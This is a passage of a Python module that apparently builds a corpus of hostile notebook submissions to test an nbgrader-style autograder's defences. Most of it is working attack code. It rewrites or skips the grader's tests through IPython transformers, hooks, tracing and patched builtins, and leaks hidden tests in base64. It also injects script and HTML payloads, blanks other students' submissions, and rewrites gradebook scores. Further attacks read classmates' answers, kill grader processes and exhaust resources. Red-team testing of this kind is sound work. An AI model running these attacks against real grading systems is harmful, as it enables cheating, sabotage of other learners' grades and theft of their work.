            if event in ("exec", "import", "compile", "open"):
                _atk_arm()

        sys.addaudithook(_atk_audit)
        gc.callbacks.append(lambda phase, info: _atk_arm())
        _atk_arm()
    '''))


def thread_and_event_loop_rearm(student, spec, arena):
    return _with_code(student, spec, _code(CLEANUP, '''
        import asyncio, threading, time

        _atk_transform = lambda lines: ["pass\\n"]

        def _atk_rearm_all():
            _atk_arm()
            transformers = _atk_shell.input_transformers_cleanup
            if _atk_transform not in transformers:
                transformers.append(_atk_transform)

        # Put everything back every millisecond, whatever was reset in between: from a thread, and from
        # the kernel's own event loop (which runs between the grader's requests).
        def _atk_loop_thread():
            while True:
                _atk_rearm_all()
                time.sleep(0.001)

        threading.Thread(target=_atk_loop_thread, daemon=True).start()
        _atk_event_loop = asyncio.get_event_loop()

        def _atk_tick():
            _atk_rearm_all()
            _atk_event_loop.call_later(0.001, _atk_tick)

        _atk_event_loop.call_soon(_atk_tick)
    '''))


# -- 13. leaking hidden tests, and HTML that runs in the feedback --------------------------------------------

LEAK_HOOK = '''
import base64 as _b64

_atk_seen = []

def _atk_capture(info):
    _atk_seen.append(info.raw_cell or "")

get_ipython().events.register("pre_run_cell", _atk_capture)

def _atk_hidden_lines():
    """Every line between hidden-test markers seen so far (the hook's captures, IPython's history, linecache)."""
    import linecache
    texts = list(_atk_seen)
    texts += list(globals().get("_ih", []) or []) + list(globals().get("In", []) or [])
    texts += ["".join(entry[2]) for entry in list(linecache.cache.values()) if len(entry) > 2]
    lines, inside = [], False
    for text in texts:
        for line in text.split("\\n"):
            if "BEGIN HIDDEN" + " TESTS" in line:
                inside = True
            elif "END HIDDEN" + " TESTS" in line:
                inside = False
            elif inside and line.strip() and line.strip() not in lines:
                lines.append(line.strip())
    return lines
'''


def leaks_hidden_tests_base64(student, spec, arena):
    nb = _with_code(student, spec, _code(LEAK_HOOK), where="first")
    reveal = _code('''
        # Print, encoded, every hidden test line captured while the earlier tests ran.
        for _atk_line in _atk_hidden_lines():
            print(_b64.b64encode(_atk_line.encode()).decode())
        print(_b64.b64encode("\\n".join(_atk_hidden_lines()).encode()).decode())
    ''')
    for grade_id in answer_ids(nb)[1:]:
        cell = cell_by_id(nb, grade_id)
        cell.source = cell.source.rstrip("\n") + "\n\n" + reveal
    return nb


def leaks_tests_in_exception_message(student, spec, arena):
    prelude = _code('''
        import base64 as _b64, linecache as _linecache, re as _re, sys as _sys

        def _atk_caller_hidden():
            """The hidden lines of the test cell calling us, from linecache, base64-encoded."""
            frame, text = _sys._getframe(1), ""
            while frame is not None:
                name = frame.f_code.co_filename
                if _re.search(r"/ipykernel_\\d+/", name) or name.startswith("<ipython-input"):
                    text = "".join(_linecache.getlines(name))
                frame = frame.f_back
            body = text.split("BEGIN HIDDEN" + " TESTS", 1)[-1].split("END HIDDEN" + " TESTS", 1)[0]
            lines = [l.strip() for l in body.split("\\n") if len(l.strip()) > 12]
            return " ".join(_b64.b64encode(l.encode()).decode() for l in lines)
    ''')
    names = ASSIGNED_NAMES[spec.id]
    answers = {}
    for i, (gid, name) in enumerate(names.items()):
        code = prelude + "\n" if i == 0 else ""
        if name[0].islower():
            code += f"def {name}(*args, **kwargs):\n    raise NotImplementedError(_atk_caller_hidden())\n"
        else:
            code += (f"class {name}:\n    def __init__(self, *args, **kwargs):\n"
                     f"        raise NotImplementedError(_atk_caller_hidden())\n")
        answers[gid] = code
    return _replace_answers(student, spec, answers)


HTML_PAYLOADS = [
    f"<script>alert('{JS_CANARY}')</script>",
    f"<img src=x onerror=\"alert('{JS_CANARY}')\">",
    f"<svg onload=\"alert('{JS_CANARY}')\"></svg>",
    f"<a href=\"javascript:alert('{JS_CANARY}')\">your grade</a>",
    f"<iframe srcdoc=\"<script>alert('{JS_CANARY}')</script>\"></iframe>",
]


def html_and_javascript_outputs(student, spec, arena):
    import base64

    # Encoded in the source, so that only the outputs (not the learner's code the feedback quotes) hold them.
    encoded = [base64.b64encode(html.encode()).decode() for html in HTML_PAYLOADS]
    return _with_code(student, spec, _code('''
        import base64
        from IPython.display import HTML, SVG, Javascript, Markdown, display

        _atk_payloads = [base64.b64decode(text).decode() for text in @PAYLOADS@]
        for _atk_html in _atk_payloads:
            display(HTML(_atk_html))
            display({"text/html": _atk_html}, raw=True)
            display(Markdown(_atk_html))
        display(Javascript("alert('@JS@')"))
        display({"application/javascript": "alert('@JS@')"}, raw=True)
        display(SVG(_atk_payloads[2].replace("<svg", "<svg xmlns='http://www.w3.org/2000/svg'")))
        print(_atk_payloads[0])
    ''', PAYLOADS=repr(encoded), JS=JS_CANARY))


def script_in_markdown_answer(student, spec, arena):
    nb = _copy(student)
    # The learner's written answers are the markdown cells right after each task.
    for index, cell in enumerate(nb.cells):
        if _meta(cell).get("task") and index + 1 < len(nb.cells) and nb.cells[index + 1].cell_type == "markdown":
            nb.cells[index + 1].source = "My answer.\n\n" + "\n\n".join(HTML_PAYLOADS)
    return nb


# -- 11. attacks on other learners and on the instructor ---------------------------------------------------

BLANK_OTHERS = '''
def _atk_blank_others():
    """Blank the answers of every other submission and executed notebook found."""
    import json
    for place in _places():
        for pattern in ("submitted/*/*/*.ipynb", "executed/*/*/*.ipynb", "*/submitted/*/*/*.ipynb",
                        "*/*/submitted/*/*/*.ipynb"):
            for path in place.glob(pattern):
                if _its_own(path) or not _mine(path):
                    continue
                try:
                    nb = json.loads(path.read_text())
                    for cell in nb["cells"]:
                        if cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
                            cell["source"] = "raise NotImplementedError()"
                    path.write_text(json.dumps(nb))
                    print("@WON@ blanked", path, flush=True)
                except Exception:
                    pass
'''


def overwrites_other_submissions(student, spec, arena):
    name = "overwrites_other_submissions"
    code = _code(FIND, BLANK_OTHERS, DETACH, '''
        try:
            _atk_blank_others()
            _atk_loop = (_FIND_SOURCE + "\\nimport time\\nend = time.time() + @SECONDS@\\n"
                         "while time.time() < end:\\n    _atk_blank_others()\\n    time.sleep(1)\\n")
            _detach([sys.executable, "-c", _atk_loop, "@MARKER@"])
        except Exception as error:
            print("attack failed:", type(error).__name__)
    ''', arena=arena, spec=spec, attack=name, SECONDS=OVERWRITER_SECONDS)
    source = _code(FIND, BLANK_OTHERS, arena=arena, spec=spec, attack=name).replace("print(", "(lambda *a, **k: None)(")
    code = f"_FIND_SOURCE = {source!r}\n" + code
    return _with_code(student, spec, code, base="solution", where="last")


GRADEBOOK_WRITER = '''
def _atk_write_gradebooks():
    """Full manual marks for me, zero for everybody else, in every gradebook and report found."""
    import csv, sqlite3
    mine = ("SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa ON sn.assignment_id = sa.id "
            "WHERE sa.student_id = '@ME@'")
    for place in _places():
        for db in [place / "gradebook.db", *place.glob("*/gradebook.db")]:
            if not db.is_file() or _its_own(db) or not _mine(db):
                continue
            try:
                with sqlite3.connect(str(db), timeout=5) as conn:
                    conn.execute(f"UPDATE grade SET manual_score = 0, auto_score = 0 WHERE notebook_id NOT IN ({mine})")
                    conn.execute("UPDATE grade SET manual_score = COALESCE((SELECT max_score FROM grade_cells g "
                                 "WHERE g.id = grade.cell_id), (SELECT max_score FROM task_cells t "
                                 f"WHERE t.id = grade.cell_id), 0) WHERE notebook_id IN ({mine})")
                print("@WON@ wrote grades into", db, flush=True)
            except Exception:
                pass
        for report in place.glob("reports/*.csv"):
            if not _mine(report):
                continue
            try:
                rows = list(csv.reader(report.open()))
                for row in rows[1:]:
                    if len(row) > 2 and row[0] != "@ME@":
                        row[2] = "0"
                with report.open("w", newline="") as f:
                    csv.writer(f).writerows(rows)
                print("@WON@ rewrote", report, flush=True)
            except Exception:
                pass
'''


def detached_gradebook_writer(student, spec, arena):
    name = "detached_gradebook_writer"
    later = _code(FIND, GRADEBOOK_WRITER, arena=arena, spec=spec, attack=name)
    wait = _code('''
        # Sleep, then wait for the grader to finish (at most 10 minutes): write after the last grade.
        import time
        time.sleep(@DELAY@)
        _atk_until = time.time() + 600
        def _atk_grading():
            for pid in os.listdir("/proc"):
                try:
                    with open(f"/proc/{pid}/cmdline", "rb") as f:
                        args = f.read()
                except OSError:
                    continue
                if b"autograder" in args and _TOKEN.encode() in args and b"-delayed" not in args:
                    return True
            return False
        while time.time() < _atk_until and _atk_grading():
            time.sleep(1)
    ''', DELAY=DELAYED_WRITE_SECONDS)
    code = f"_ATK_LATER = {later!r}\n_ATK_WAIT = {wait!r}\n" + _code(FIND, GRADEBOOK_WRITER, DETACH, '''
        try:
            _atk_write_gradebooks()       # now, while grading runs
            # and once grading is over: a process in a session of its own, adopted by init
            _detach([sys.executable, "-c", _ATK_LATER + _ATK_WAIT + "\\n_atk_write_gradebooks()\\n",
                     "@MARKER@-delayed"])
        except Exception as error:
            print("attack failed:", type(error).__name__)
    ''', arena=arena, spec=spec, attack=name, DELAY=DELAYED_WRITE_SECONDS)
    return _with_code(student, spec, code, base="solution", where="last")


def edits_course_config_and_grader(student, spec, arena):
    name = "edits_course_config_and_grader"
    return _with_code(student, spec, _code(FIND, '''
        import sys, sysconfig
        try:
            # 1. Code appended to the course's nbgrader_config.py runs in every later grader process.
            payload = ("\\nfrom pathlib import Path as _P\\n"
                       "(_P(@POISON@)).write_text('the course configuration ran code a learner wrote')\\n")
            for place in _places():
                for config in [place / "nbgrader_config.py", *place.glob("*/nbgrader_config.py")]:
                    if config.is_file() and _mine(config) and not _its_own(config):
                        try:
                            with config.open("a") as f:
                                f.write(payload)
                            print("@WON@ appended to", config, flush=True)
                        except OSError:
                            pass
            # 2. The grader's own code and the Python it runs (only probed: these are shared by everyone).
            probes = []
            try:
                import course
                repo = Path(course.__file__).resolve().parents[1]
                probes += [repo / "autograder" / "__init__.py", repo / "course" / "__init__.py",
                           repo / "assignments" / "@ID@" / "@ID@.ipynb"]
            except Exception:
                pass
            purelib = Path(sysconfig.get_paths()["purelib"])
            probes += [purelib, purelib / "nbgrader" / "__init__.py", Path(sys.prefix) / "bin",
                       Path.home() / ".jupyter", Path("/etc")]
            for probe in probes:
                if probe.exists() and os.access(probe, os.W_OK):
                    print("@WON@ could write", probe, flush=True)
        except Exception as error:
            print("attack failed:", type(error).__name__)
    ''', arena=arena, spec=spec, attack=name, POISON=repr(f"/tmp/{arena.token}-config-ran")),
        base="solution", where="last")


def config_poison_file(arena: Arena) -> str:
    """The file ``edits_course_config_and_grader``'s payload writes if the course configuration ran it."""
    return f"/tmp/{arena.token}-config-ran"


def kills_the_grader(student, spec, arena):
    name = "kills_the_grader"
    return _with_code(student, spec, _code('''
        import os, signal

        _TOKEN = "@TOKEN@"

        def _atk_ours(pid):
            """A process of this test's grading (the corpus's safety rule): its arguments or cwd name the arena."""
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    args = f.read().decode(errors="replace")
            except OSError:
                return False
            try:
                cwd = os.readlink(f"/proc/{pid}/cwd")
            except OSError:
                cwd = ""
            return _TOKEN in args or _TOKEN in cwd

        def _atk_kill(pid, what):
            try:
                os.kill(pid, signal.SIGKILL)
                print("@WON@ killed", what, pid, flush=True)
            except OSError:
                pass

        try:
            if os.readlink("/proc/self/ns/pid") != "@HOSTPIDNS@":
                os.kill(-1, signal.SIGKILL)       # every process we may signal (armed only inside a sandbox)
        except OSError:
            pass
        _atk_parent = os.getppid()
        try:
            if _atk_parent > 1 and _atk_ours(_atk_parent):
                os.killpg(os.getpgid(_atk_parent), signal.SIGKILL)   # the grader's whole process group
        except OSError:
            pass
        try:
            for _atk_pid in os.listdir("/proc"):
                if _atk_pid.isdigit() and int(_atk_pid) != os.getpid() and _atk_ours(_atk_pid):
                    with open(f"/proc/{_atk_pid}/cmdline", "rb") as f:
                        if b"autograder" in f.read():
                            _atk_kill(int(_atk_pid), "grader process")
        except OSError:
            pass
        if _atk_parent > 1:
            _atk_kill(_atk_parent, "parent")
    ''', arena=arena, spec=spec, attack=name), base="solution", where="last")


def reads_other_students_work(student, spec, arena):
    name = "reads_other_students_work"
    return _with_code(student, spec, _code(FIND, '''
        import base64, json
        try:
            for place in _places():
                for path in [*place.glob("submitted/*/*/*.ipynb"), *place.glob("*/submitted/*/*/*.ipynb"),
                             *place.glob("executed/*/*/*.ipynb"), *place.glob("autograded/*/*/*.ipynb")]:
                    if _its_own(path):
                        continue
                    try:
                        cells = json.loads(path.read_text())["cells"]
                    except Exception:
                        continue
                    answers = "\\n".join("".join(c["source"]) if isinstance(c["source"], list) else c["source"]
                                         for c in cells if c.get("metadata", {}).get("nbgrader", {}).get("solution"))
                    print("@WON@ read", path)
                    print(answers)
                    print(base64.b64encode(answers.encode()).decode())
        except Exception as error:
            print("attack failed:", type(error).__name__)
    ''', arena=arena, spec=spec, attack=name), where="last")


def poisons_gradebook_copies(student, spec, arena):
    name = "poisons_gradebook_copies"
    return _with_code(student, spec, _code(FIND, '''
        import sqlite3
        try:
            # Every gradebook copy the grader makes its workers from: test cells become `pass`.
            for place in _places():
                for db in [place / "gradebook.db", *place.glob("*/gradebook.db")]:
                    if not db.is_file() or not _mine(db) or _its_own(db):
                        continue
                    try:
                        with sqlite3.connect(str(db), timeout=5) as conn:
                            conn.execute("UPDATE source_cell SET source = 'pass' WHERE locked = 1 AND name IN "
                                         "(SELECT name FROM base_cell WHERE type = 'GradeCell')")
                        print("@WON@ changed the tests in", db, flush=True)
                    except Exception:
                        pass
        except Exception as error:
            print("attack failed:", type(error).__name__)
    ''', arena=arena, spec=spec, attack=name))


# -- 12. limits -------------------------------------------------------------------------------------------


def fork_bomb_bounded(student, spec, arena):
    seconds = arena.sleep_seconds("fork_bomb_bounded", FORK_BOMB_PROCESSES)
    return _with_code(student, spec, _code('''
        import subprocess
        _atk_children = []
        try:
            for _atk_s in @SECONDS@:
                _atk_children.append(subprocess.Popen(["sleep", str(_atk_s)]))
            print("@WON@ started", len(_atk_children), "processes")
        except OSError as error:
            print("stopped after", len(_atk_children), "processes:", error)
    ''', SECONDS=repr(seconds)))


def detached_children(student, spec, arena):
    seconds = arena.sleep_seconds("detached_children", DETACHED_CHILDREN)
    return _with_code(student, spec, _code(DETACH, '''
        for _atk_s in @SECONDS@:
            try:
                _detach(["sleep", str(_atk_s)])
            except OSError as error:
                print("could not start a child:", error)
                break
    ''', SECONDS=repr(seconds)))


def allocates_6gib(student, spec, arena):
    return _with_code(student, spec, _code('''
        _atk_big = bytes(6 << 30)            # 6 GiB of address space (calloc: instant where nothing stops it)
        print("@WON@ allocated", len(_atk_big) >> 30, "GiB")
        del _atk_big
    '''))


def writes_1gib_file(student, spec, arena):
    return _with_code(student, spec, _code('''
        import os
        _atk_chunk = b"x" * (16 << 20)
        try:
            with open("big.bin", "wb") as _atk_f:
                for _ in range(64):                  # 1 GiB
                    _atk_f.write(_atk_chunk)
            print("@WON@ wrote", os.path.getsize("big.bin") >> 20, "MiB")
        finally:
            if os.path.exists("big.bin"):
                os.remove("big.bin")
    '''))


def prints_100mb(student, spec, arena):
    return _with_code(student, spec, _code('''
        import sys
        _atk_chunk = ("x" * 1023 + "\\n") * (10 * 1024)      # 10 MiB
        for _ in range(10):
            sys.stdout.write(_atk_chunk)
            sys.stdout.flush()
    '''))


def connects_out(student, spec, arena):
    return _with_code(student, spec, _code('''
        import socket
        for _atk_host, _atk_port, _atk_what in [("127.0.0.1", @LOOPBACKPORT@, "the host's loopback"),
                                                ("@HOSTIP@", @OUTSIDEPORT@, "the host's network address"),
                                                ("1.1.1.1", 53, "the internet")]:
            if not _atk_host:
                continue
            try:
                with socket.create_connection((_atk_host, _atk_port), timeout=2) as _atk_s:
                    _atk_s.sendall(b"@TOKEN@ connects_out")
                print("@WON@ connected to", _atk_what, _atk_host, _atk_port)
            except OSError as error:
                print("could not reach", _atk_what, ":", error)
    ''', arena=arena, spec=spec, attack="connects_out"))


def listens_on_all_interfaces(student, spec, arena):
    return _with_code(student, spec, _code('''
        import socket, threading, time

        # What a learner's test may do: a server on its own loopback, and a client talking to it.
        with socket.create_server(("127.0.0.1", 0)) as _atk_server:
            with socket.create_connection(_atk_server.getsockname(), timeout=2) as _atk_client:
                _atk_peer, _ = _atk_server.accept()
                _atk_client.sendall(b"ping")
                if _atk_peer.recv(4) == b"ping":
                    print("@LOOPBACK@")
                _atk_peer.close()

        # What it must not: a server on every interface that the host (or anyone) can reach.
        _atk_listener = socket.create_server(("0.0.0.0", @LISTENPORT@), reuse_port=False)

        def _atk_serve():
            while True:
                try:
                    conn, _ = _atk_listener.accept()
                    conn.sendall(b"@TOKEN@ listens_on_all_interfaces")
                    conn.close()
                except OSError:
                    return

        threading.Thread(target=_atk_serve, daemon=True).start()
        time.sleep(3)                                 # a window for the host to connect
    ''', arena=arena, spec=spec, attack="listens_on_all_interfaces", LOOPBACK=LOOPBACK_OK))


# -- 14. the notebook itself ---------------------------------------------------------------------------------


def _first_test_cell(nb):
    return next(c for c in nb.cells if _meta(c).get("grade") and not _meta(c).get("solution"))


def duplicated_grade_ids(student, spec, arena):
    nb = _copy(student)
    test = _first_test_cell(nb)
    twin = copy.deepcopy(test)
    twin["id"] = "a-copy-of-a-test"
    nb.cells.insert(nb.cells.index(test) + 1, twin)
    # and an answer cell named like a test cell
    cell_by_id(nb, answer_ids(nb)[-1]).metadata["nbgrader"]["grade_id"] = _meta(test)["grade_id"]
    return nb


def test_cell_made_markdown(student, spec, arena):
    nb = _copy(student)
    test = _first_test_cell(nb)
    index = nb.cells.index(test)
    markdown = nbformat.v4.new_markdown_cell(test.source, metadata=copy.deepcopy(test.metadata))
    markdown["id"] = test.get("id", "changed")
    nb.cells[index] = markdown
    return nb


def oversized_notebook(student, spec, arena):
    import base64

    nb = _copy(student)
    blob = base64.b64encode(b"\0" * (OVERSIZED_BYTES * 3 // 4)).decode()
    nb.cells.append(nbformat.v4.new_markdown_cell(f"![my diagram](data:image/png;base64,{blob})"))
    return nb


def deleted_answer_cell(student, spec, arena):
    nb = _copy(student)
    nb.cells.remove(cell_by_id(nb, answer_ids(nb)[1]))
    return nb


def changed_checksum_and_metadata(student, spec, arena):
    nb = _copy(student)
    test = _first_test_cell(nb)
    test.metadata["nbgrader"]["checksum"] = "0" * 32
    test.metadata["nbgrader"]["points"] = 100
    answer = cell_by_id(nb, answer_ids(nb)[0])
    answer.metadata["nbgrader"]["checksum"] = "0" * 32
    answer.metadata["nbgrader"]["locked"] = True
    return nb


def missing_nbgrader_metadata(student, spec, arena):
    nb = _copy(student)
    for cell in nb.cells:
        cell.metadata.pop("nbgrader", None)
    return nb


# -- 15. the course's own implementations -------------------------------------------------------------------


def imports_course_policies(student, spec, arena):
    return _replace_answers(student, spec, {
        "retry_policy": "from course.sim.policies import Retry\n\n\nclass RetryPolicy(Retry):\n    pass\n",
        "circuit_breaker": "from course.sim.policies import CircuitBreaker\n",
    })


def imports_course_data_implementations(student, spec, arena):
    return _replace_answers(student, spec, {
        "idempotent_consumer": "from course.sim.data import IdempotentConsumer\n",
        "saga_orchestrator": "from course.sim.data.saga import Orchestrator as SagaOrchestrator\n",
        "outbox_relay": "from course.sim.data import OutboxRelay\n",
    })


# -- the corpus -------------------------------------------------------------------------------------------------

R, C = "resilience", "consistency"
_CAP = 5 * 1024 * 1024

ATTACKS: list[Attack] = [
    # 1-4: rewrite or re-score the tests from the learner's kernel
    Attack("input_transformer_cleanup", R, "transformer", "an input transformer turns every later cell into `pass`",
           input_transformer_cleanup),
    Attack("input_transformer_post", C, "transformer", "the same with input_transformers_post", input_transformer_post),
    Attack("ast_transformer_swallows_errors", R, "ast",
           "an AST transformer deletes asserts and wraps every statement in try/except", ast_transformer_swallows_errors),
    Attack("ast_transformer_deletes_asserts", C, "ast",
           "stand-ins that never raise, and an AST transformer that turns every assert and raise into `pass`",
           ast_transformer_deletes_asserts),
    Attack("hook_clears_error_output", R, "hooks",
           "a post_run_cell hook clears the cell's outputs and the error in its result", hook_clears_error_output),
    Attack("hooks_display_numbers", C, "hooks",
           "pre_run_cell prints and displays 60; post_execute clears the outputs and the last result's error",
           hooks_display_numbers),
    Attack("hook_emits_execute_result", R, "partial_credit",
           "pre_run_cell emits an execute_result (the cell's points) before the test runs", hook_emits_execute_result),
    Attack("pre_execute_execute_result", C, "partial_credit",
           "pre_execute sends a raw execute_result message '1.0': a point of 'partial credit' per test cell",
           pre_execute_execute_result),
    # 5-6: import something else than the course, or the instructor's solution
    Attack("fake_course_beside_notebook", R, "fake_course",
           "a course/__init__.py beside the notebook installs a `pass` transformer, then loads the real course",
           fake_course_beside_notebook, in_check=False),
    Attack("fake_course_written_at_runtime", C, "fake_course",
           "an answer cell writes that package to the working folder, forgets `course` and imports it again",
           fake_course_written_at_runtime),
    Attack("runs_instructor_solution", R, "solution_theft",
           "looks for source/<id>/<id>.ipynb up from its working folder and every process's, and runs its "
           "solutions", runs_instructor_solution),
    Attack("reads_solution_via_course_path", C, "solution_theft",
           "runs the source notebook's solutions found via Path(course.__file__).parents[1] (or site-packages)",
           reads_solution_via_course_path),
    # 7-10: tracing, patched IPython/ipykernel, builtins, introspection
    Attack("settrace_jumps_over_asserts", R, "tracing",
           "stand-ins, and sys.settrace/sys.setprofile with a tracer that jumps over every assert and raise",
           settrace_jumps_over_asserts),
    Attack("f_trace_from_stub", C, "tracing",
           "stand-in factories that, called by a test, call sys.settrace and set frame.f_trace on the calling "
           "test cell, to jump over its checks", f_trace_from_stub),
    Attack("patches_shell", R, "kernel_patch",
           "patches InteractiveShell/ZMQInteractiveShell run_cell, run_cell_async and showtraceback",
           patches_shell),
    Attack("patches_kernel_messages", C, "kernel_patch",
           "patches Session.send, Kernel.send_response and do_execute: no error output, every reply 'ok'",
           patches_kernel_messages),
    Attack("replaces_builtins", R, "builtins",
           "replaces __import__, print, AssertionError, NotImplementedError, sys.excepthook and sys.displayhook; "
           "each import re-arms a cleanup hook", replaces_builtins),
    Attack("shadows_modules_via_meta_path", C, "builtins",
           "a sys.meta_path finder and path hook run code on the tests' own imports (their modules forgotten)",
           shadows_modules_via_meta_path),
    Attack("gc_ctypes_procmem", R, "introspection",
           "stubs that, when a test calls them, find the kernel's objects with gc, ctypes and /proc/self/mem",
           gc_ctypes_procmem),
    Attack("stub_arms_hooks_inside_test_cell", R, "reentry",
           "stubs that register the cleanup hook when a test calls them, inside the test cell",
           stub_arms_hooks_inside_test_cell),
    Attack("stub_emits_execute_result", C, "reentry",
           "stubs that emit an execute_result when a test calls them, before raising", stub_emits_execute_result),
    Attack("audit_hook_and_gc_callbacks", R, "reentry",
           "sys.addaudithook and gc.callbacks re-arm the cleanup hook inside every later cell",
           audit_hook_and_gc_callbacks),
    Attack("thread_and_event_loop_rearm", C, "reentry",
           "a thread and a call_later chain on the kernel's event loop put the cleanup hook and a `pass` "
           "transformer back every millisecond", thread_and_event_loop_rearm),
    # 13: secrets and scripts into the feedback
    Attack("leaks_hidden_tests_base64", R, "leak",
           "a pre_run_cell hook, In/_ih and linecache capture the hidden tests; later answer cells print them in "
           "base64", leaks_hidden_tests_base64),
    Attack("leaks_tests_in_exception_message", C, "leak",
           "stubs raise NotImplementedError carrying the calling test cell's hidden lines in base64",
           leaks_tests_in_exception_message),
    Attack("html_and_javascript_outputs", R, "leak",
           "<script>, onerror=, onload=, javascript: and Javascript() outputs", html_and_javascript_outputs),
    Attack("script_in_markdown_answer", C, "leak", "the same HTML in the written (markdown) answers",
           script_in_markdown_answer),
    # 11: other learners and the instructor (from the reference solution: the attacker deserves 60)
    Attack("overwrites_other_submissions", R, "others",
           "finds the course via /proc and the filesystem, blanks every other submitted and executed notebook, "
           "and leaves a detached process doing it for 25 s", overwrites_other_submissions, base="solution",
           expect_max_score=None, expect_score=60, expect_status="graded"),
    Attack("detached_gradebook_writer", R, "others",
           "writes manual scores into every gradebook and report it finds, now and from a detached process "
           "that sleeps 30 s and waits for grading to end", detached_gradebook_writer, base="solution", expect_max_score=None, expect_score=60,
           expect_status="graded"),
    Attack("edits_course_config_and_grader", C, "others",
           "appends code to the course's nbgrader_config.py; probes whether the grader's code, the Python "
           "installation and /etc are writable", edits_course_config_and_grader, base="solution",
           expect_max_score=None, expect_score=60, expect_status="graded"),
    Attack("kills_the_grader", C, "others",
           "kill(-1) inside its namespace, killpg of the parent's group, every grader process found in /proc, "
           "its parent", kills_the_grader, base="solution", expect_max_score=None),
    Attack("reads_other_students_work", C, "others",
           "prints (plain and base64) the answers of every other notebook it can find", reads_other_students_work),
    Attack("poisons_gradebook_copies", C, "others",
           "turns the test cells into `pass` in every gradebook copy it can find (the workers' template)",
           poisons_gradebook_copies),
    # 12: limits
    Attack("fork_bomb_bounded", R, "limits", f"starts {FORK_BOMB_PROCESSES} sleep processes", fork_bomb_bounded,
           limit="process"),
    Attack("detached_children", C, "limits", f"leaves {DETACHED_CHILDREN} double-forked, setsid sleep processes",
           detached_children),
    Attack("allocates_6gib", R, "limits", "allocates 6 GiB (bytes(6 << 30))", allocates_6gib, limit="memory"),
    Attack("writes_1gib_file", C, "limits", "writes a 1 GiB file in its working folder", writes_1gib_file,
           limit="file"),
    Attack("prints_100mb", R, "limits", "prints 100 MB (10 writes of 10 MiB)", prints_100mb, max_feedback_bytes=_CAP,
           max_notebook_bytes=_CAP, limit="output"),
    Attack("connects_out", C, "limits", "connects to the host's loopback, the host's address and 1.1.1.1:53",
           connects_out),
    Attack("listens_on_all_interfaces", R, "limits",
           "serves on 0.0.0.0 (after checking that a server on its own loopback works)", listens_on_all_interfaces,
           required_output=LOOPBACK_OK),
    # 14: the notebook itself
    Attack("duplicated_grade_ids", R, "notebook", "a test cell twice, and an answer cell with a test cell's id",
           duplicated_grade_ids, expect_status="failed", expect_reason="duplicate_grade_id"),
    Attack("test_cell_made_markdown", R, "notebook", "a test cell turned into a markdown cell", test_cell_made_markdown,
           expect_status="failed", expect_reason="cell_type"),
    Attack("oversized_notebook", R, "notebook", "30 MB of base64 in a markdown cell", oversized_notebook,
           expect_status="failed", expect_reason="size"),
    Attack("deleted_answer_cell", C, "notebook", "the saga_orchestrator answer cell deleted", deleted_answer_cell,
           expect_reason="deleted_answer_cell"),
    Attack("changed_checksum_and_metadata", C, "notebook",
           "a test cell's checksum and points changed, an answer cell's checksum changed and marked locked",
           changed_checksum_and_metadata, expect_status="failed", expect_reason="checksum"),
    Attack("missing_nbgrader_metadata", C, "notebook", "every cell's nbgrader metadata removed",
           missing_nbgrader_metadata, expect_status="failed", expect_reason="missing_metadata"),
    # 15: the course's own implementations (the score may be high: the flag is the point)
    Attack("imports_course_policies", R, "own_implementation",
           "RetryPolicy and CircuitBreaker from course.sim.policies (with_fallback left blank)", imports_course_policies,
           expect_max_score=None, flag=True),
    Attack("imports_course_data_implementations", C, "own_implementation",
           "IdempotentConsumer, SagaOrchestrator and OutboxRelay from course.sim.data",
           imports_course_data_implementations, expect_max_score=None, flag=True),
]

BY_NAME = {attack.name: attack for attack in ATTACKS}
assert len(BY_NAME) == len(ATTACKS), "attack names must be unique"


def attacks_of(assignment: str) -> list[Attack]:
    """The attacks on one assignment, in corpus order."""
    return [a for a in ATTACKS if a.assignment == assignment]


def build(attack: Attack, student, spec, arena: Arena) -> Submission:
    """``attack``'s submission (a :class:`Submission`, whatever its builder returned)."""
    made = attack.build(student, spec, arena)
    return made if isinstance(made, Submission) else Submission(made)


def write(submission: Submission, folder, notebook_name: str):
    """Write a submission into ``folder`` (the notebook as ``notebook_name``, its files beside it)."""
    from pathlib import Path

    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / notebook_name
    nbformat.write(submission.notebook, str(path))
    for relative, text in submission.files.items():
        target = folder / relative
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text, encoding="utf-8")
    return path
